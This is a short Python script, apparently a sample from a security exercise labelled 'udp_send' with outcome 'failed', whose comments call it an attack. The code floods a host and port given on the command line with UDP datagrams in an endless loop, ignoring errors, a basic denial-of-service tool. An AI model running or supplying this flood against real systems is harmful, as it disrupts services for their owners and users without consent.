# attack: sends datagrams as fast as it can | 以最快速度发数据报
# exercise: udp_send
# outcome: failed
import socket
import sys

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    try:
        s.sendto(b"flood", (sys.argv[1], int(sys.argv[2])))
    except OSError:
        pass
